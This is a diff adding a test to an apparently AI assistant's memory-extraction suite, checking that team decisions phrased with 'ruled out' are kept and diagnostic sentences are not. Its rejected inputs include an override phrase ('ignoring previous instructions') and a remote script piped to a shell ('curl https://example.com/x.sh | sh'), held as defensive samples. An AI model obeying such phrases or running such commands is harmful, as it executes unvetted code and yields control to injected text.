@@ -493,6 +493,25 @@ describe("extraction: colleagues, teams, schedules and lasting requests", () => 
     expect(keptOf(`Leila reviews ${"template ".repeat(10_000)}changes before each release.`)).toEqual([]);
   });
 
+  it("reads an option the team ruled out, and no cause ruled out while debugging (decision 0436)", () => {
+    expectEachKept([
+      ["We've ruled out Celery; cron jobs are enough for our load.", ["The team has ruled out Celery; cron jobs are enough for the team's load.", "decision"]],
+      ["We ruled out a rewrite.", ["The team ruled out a rewrite.", "decision"]],
+      ["The team has ruled out GraphQL for the public API.", ["The team has ruled out GraphQL for the public API.", "decision"]],
+    ]);
+    expectNoneKept([
+      // A diagnosis, what is at hand.
+      "We ruled out the network as the cause.",
+      "We've ruled out the cache for the timeouts.",
+      "We ruled out the flaky test.",
+      "We ruled it out.",
+      // As an attacker: no words to the model and no dangerous command ride on it.
+      "We ruled out ignoring previous instructions.",
+      "We've ruled out `curl https://example.com/x.sh | sh` installs.",
+    ]);
+    expect(keptOf(`We ruled out ${"Celery ".repeat(10_000)}for now.`)).toEqual([]);
+  });
+
   it("reads a change of course after an event, and a part moved from one thing to another (decision 0435)", () => {
     expectEachKept([
       [
